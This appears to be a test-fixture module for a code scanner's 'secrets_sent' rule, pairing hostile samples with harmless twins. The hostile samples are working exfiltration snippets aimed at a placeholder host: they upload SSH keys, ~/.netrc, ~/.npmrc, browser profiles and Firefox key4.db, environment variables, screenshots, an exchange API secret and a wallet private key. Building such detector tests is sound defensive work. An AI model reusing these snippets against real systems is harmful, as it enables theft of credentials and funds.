"""Samples and twins of `secrets_sent`: what files, buffers, archives, objects and scripts hold before it leaves."""

from inspection.rules.sample import Sample, js, py


def _sh(text: str, line: int) -> Sample:
    """A script that plain `make` runs."""
    return Sample(_made(text), "block", ("a.sh", line))


def _made(text: str) -> dict[str, str | bytes]:
    return {"Makefile": "all:\n\tbash a.sh\n", "a.sh": text}


_FOUND = (
    "from pathlib import Path\nimport requests\nfor one in (Path.home() / '.config' / 'google-chrome').iterdir():\n"
)
_KEPT = (
    "import os, json, requests\nfrom dataclasses import asdict, dataclass, field\n@dataclass\nclass Report:\n"
    "    name: str\n    env: dict = field(default_factory=lambda: dict({}))\n"
    "requests.post('https://a.invalid', data=json.dumps(asdict(Report('a'))))\n"
)
_DUMPED = (
    "import json, os, requests\nwith open('a.json', 'w') as file:\n    json.dump({}, file)\n"
    "requests.post('https://a.invalid', files={{'f': open('a.json', 'rb')}})\n"
)
_PACKED = (
    "const tar = require('tar'), fs = require('fs'), os = require('os');\n"
    "tar.c({ sync: true, file: '/tmp/x.tgz' }, [FOLDER]);\n"
    "fetch('https://a.invalid', { method: 'POST', body: fs.readFileSync('/tmp/x.tgz') });\n"
)
_GLOBBED = (
    "const fg = require('fast-glob'), fs = require('fs'), os = require('os');\n"
    "const files = fg.sync('PATTERN', { cwd: os.homedir(), absolute: true });\n"
    "for (const file of files) fetch('https://a.invalid', { method: 'PUT', body: fs.readFileSync(file) });\n"
)

HOSTILE: dict[str, dict[str, Sample]] = {
    "secrets_sent": {
        "a file of a walk, opened by its own method": py(
            _FOUND + "    requests.post('https://a.invalid', data=one.open('rb'))\n", line=4
        ),
        "the environment, made by the factory of a field": py(_KEPT.format("os.environ"), line=7),
        "the environment, saved as JSON and uploaded": py(_DUMPED.format("dict(os.environ)"), line=4),
        "a picture of the screen, saved into a buffer": py(
            "import io, requests\nfrom PIL import ImageGrab\nbuffer = io.BytesIO()\n"
            "ImageGrab.grab().save(buffer, 'PNG')\nrequests.post('https://a.invalid', data=buffer.getvalue())\n",
            "review",
            line=5,
        ),
        "packed by the options of a call": js(_PACKED.replace("FOLDER", "os.homedir() + '/.ssh'")),
        "found below a folder that is an option": js(_GLOBBED.replace("PATTERN", ".mozilla/firefox/*/key4.db"), line=3),
        "a list of keys, sent one by one by a function": _sh(
            "files=(~/.ssh/id_rsa ~/.netrc)\nup() { curl -sF \"f=@$1\" https://a.invalid; }\n"
            "for f in \"${files[@]}\"; do up \"$f\"; done\n",
            2,
        ),
        "in a text that stands below the command": _sh("mail -s a me@a.invalid <<EOF\n$(cat ~/.npmrc)\nEOF\n", 1),
        "the secret of an exchange, off its own client": py(
            "import ccxt, requests\nexchange = ccxt.binance({'secret': open('a').read()})\n"
            "requests.post('https://a.invalid', json={'build': exchange.secret})\n",
            line=3,
        ),
        "a key to a node of a chain": js(
            "const { JsonRpcProvider, Wallet } = require('ethers');\n"
            "const wallet = Wallet.fromPhrase(process.env.WORDS);\n"
            "new JsonRpcProvider('https://a.invalid').send('eth_sync', [wallet.privateKey]);\n",
            "review",
            line=3,
        ),
    },
}  # fmt: skip

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "secrets_sent": {
        "a file of a walk, opened to be written": {
            "app.py": _FOUND + "    one.open('w')\n    requests.post('https://a.invalid', data='a')\n"
        },
        "a zone, made by the factory of a field": {"app.py": _KEPT.format("zone=os.environ['ZONE']")},
        "a zone, saved as JSON and uploaded": {
            "app.py": _DUMPED.format("os.environ['ZONE']")
        },
        "a picture of the screen, saved into another buffer": {
            "app.py": "import io, requests\nfrom PIL import ImageGrab\nbuffer, own = io.BytesIO(), io.BytesIO()\n"
            "ImageGrab.grab().save(own, 'PNG')\nrequests.post('https://a.invalid', data=buffer.getvalue())\n"
        },
        "packed of the project by the options of a call": {"app.js": _PACKED.replace("FOLDER", "'src'")},
        "found in the project": {"app.js": _GLOBBED.replace("os.homedir()", "__dirname").replace("PATTERN", "*.csv")},
        "a list of files, sent one by one by a function": _made(
            "files=(a.csv b.csv)\nup() { curl -sF \"f=@$1\" https://a.invalid; }\n"
            "for f in \"${files[@]}\"; do up \"$f\"; done\nls ~/.ssh\n"
        ),
        "the time in a text that stands below the command": _made("mail -s a me@a.invalid <<EOF\n$(date)\nEOF\n"),
        "the name of an exchange, off its own client": {
            "app.py": "import ccxt, requests\nexchange = ccxt.binance({'secret': open('a').read()})\n"
            "requests.post('https://a.invalid', json={'build': exchange.id})\n"
        },
        "an address to a node of a chain": {
            "app.js": "const { JsonRpcProvider, Wallet } = require('ethers');\n"
            "const wallet = Wallet.fromPhrase(process.env.WORDS);\n"
            "new JsonRpcProvider('https://a.invalid').send('eth_sync', [wallet.address]);\n"
        },
    },
}  # fmt: skip
